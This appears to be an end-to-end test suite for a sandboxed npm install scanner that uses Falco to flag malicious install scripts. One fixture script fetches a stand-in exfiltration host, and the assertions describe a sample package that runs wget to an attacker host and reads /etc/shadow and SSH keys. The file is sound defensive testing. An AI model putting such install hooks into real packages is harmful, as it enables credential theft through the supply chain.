import { execFileSync } from 'node:child_process';
import { readFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import { describe, expect, it } from 'vitest';
import { reportOf, submit } from '../../support/client.js';
import { sandboxesOf } from '../../support/own-sandboxes.js';
import { runningService } from '../../support/running-service.js';
import { eventually } from '../../support/service-process.js';
import { packProject, projectWithScript } from '../../support/tarballs.js';

const SAMPLE = fileURLToPath(new URL('../../../falco-test', import.meta.url));
const service = runningService();

const sh = (script: string): string => execFileSync('sh', ['-c', script], { encoding: 'utf8', cwd: service.dataPath });

describe('a job, as described in the README', () => {
  it('falco-test: curl in, pending, finished with the alerts in the legacy shape', async () => {
    const answer = sh(
      `tar -C ${SAMPLE} -czf falco-test.tgz . && curl -s -H 'Content-Type: application/octet-stream' --data-binary @falco-test.tgz ${service.url}/monitor/project/npm`,
    );
    const { id } = JSON.parse(answer) as { id: string };
    expect(answer).toBe(`{"status":"ok","id":"${id}"}`);
    expect(JSON.parse(sh(`curl -s '${service.url}/?id=${id}'`))).toEqual({ id, status: 'pending' });

    await reportOf(service.url, id);
    const legacy = JSON.parse(sh(`curl -s '${service.url}/?id=${id}'`)) as {
      status: string;
      result: Record<string, unknown>[];
    };
    expect(legacy.status).toBe('finished');
    const shadow = legacy.result.find(({ rule }) => rule === 'Read of the password database');
    expect(shadow).toMatchObject({ source: 'SYSCALL', priority: 'CRITICAL', hostname: expect.any(String) });
    expect(shadow?.time).toEqual({ seconds: expect.stringMatching(/^\d{10}$/), nanos: expect.any(Number) });
    expect(shadow?.output_fields).toMatchObject({
      'fd.name': '/etc/shadow',
      'container.id': expect.stringMatching(/^[0-9a-f]{12}$/),
    });
  });

  it('falco-test: the full report names the package, the path to it and what it did', async () => {
    const id = await submit(service.url, execFileSync('tar', ['-C', SAMPLE, '-czf', '-', '.']));
    const report = await reportOf(service.url, id);
    expect(report.verdict).toBe('findings');
    expect(report.monitoring).toMatchObject({ proven: true, drops: 0 });
    const byRule = new Map(report.findings.map((finding) => [finding.rule, finding]));
    for (const rule of ['Network tool started', 'Read of an SSH key', 'Read of the password database']) {
      expect(byRule.get(rule)?.package, rule).toEqual({
        name: 'evil-dep',
        version: '1.0.0',
        path: ['falco-test', 'left-pad-ng', 'evil-dep'],
      });
      expect(byRule.get(rule)?.phase).toBe('install');
    }
    expect(byRule.get('Network tool started')?.processes[0]?.cmdline).toContain('wget');
    expect(report.egress).toContainEqual(
      expect.objectContaining({ host: 'snippets.attacker.invalid', allowed: false }),
    );
    // It has no lock file, and its package.json names what pulls the package in.
    const line = readFileSync(`${SAMPLE}/package.json`, 'utf8')
      .split('\n')
      .findIndex((text) => text.includes('left-pad-ng"'));
    expect(report.lockFile).toEqual({ file: 'package.json', lines: { 'evil-dep@1.0.0': line + 1 } });
    expect(report.phases[1]?.scripts).toEqual({ declared: 1, ran: 1 });
    expect(report.allowScripts).toEqual({ recommended: [], refused: ['evil-dep@1.0.0'] });
  });

  it('an empty project is clean, provably watched', async () => {
    const report = await reportOf(
      service.url,
      await submit(service.url, await packProject({ 'package.json': { name: 'empty', version: '1.0.0' } })),
    );
    expect(report).toMatchObject({
      verdict: 'clean',
      findings: [],
      incomplete: [],
      monitoring: { proven: true, drops: 0 },
    });
  });

  it('an honest install script is clean; of a folder of the project it is not recommended, and why is said', async () => {
    const tarball = await projectWithScript(`require('fs').writeFileSync('built.txt', 'ok');`);
    const report = await reportOf(service.url, await submit(service.url, tarball));
    expect(report).toMatchObject({ verdict: 'clean', allowScripts: { recommended: [], refused: [] } });
    expect(report.packages[0]?.notRecommended).toMatch(/folder.* not from the registry/);
  });

  it('an in-process fetch of an unknown host is a finding, though it makes no connection', async () => {
    const tarball = await projectWithScript(`fetch('https://exfil.attacker.invalid/x').catch(() => {});`);
    const report = await reportOf(service.url, await submit(service.url, tarball));
    expect(report.verdict).toBe('findings');
    expect(report.egress).toContainEqual(expect.objectContaining({ host: 'exfil.attacker.invalid', allowed: false }));
  });

  it('installs from the registry through the gateway', async () => {
    const tarball = await packProject({
      'package.json': { name: 'app', version: '1.0.0', dependencies: { 'is-number': '7.0.0' } },
    });
    const report = await reportOf(service.url, await submit(service.url, tarball));
    expect(report.incomplete).toEqual([]);
    expect(report.verdict).toBe('clean');
    expect(report.egress).toContainEqual(expect.objectContaining({ port: 443, allowed: true }));
  });

  it('a prebuilt binary and a native build from the registry are clean: esbuild, bufferutil', async () => {
    const dependencies = { esbuild: '*', bufferutil: '*' };
    const tarball = await packProject({ 'package.json': { name: 'app', version: '1.0.0', dependencies } });
    const report = await reportOf(service.url, await submit(service.url, tarball));
    expect(report.incomplete).toEqual([]);
    expect(report.findings).toEqual([]);
    expect(report.phases[1]?.scripts).toEqual({ declared: 2, ran: 2 });
    expect(report.allowScripts.recommended.map((spec) => spec.split('@')[0]).sort()).toEqual(['bufferutil', 'esbuild']);
  });

  it('leaves no container, network or tarball behind', async () => {
    await eventually('nothing is left', 20_000, () => {
      return (sandboxesOf(service.dataPath).length === 0 && sh('ls spool').trim() === '') || undefined;
    });
  });
});
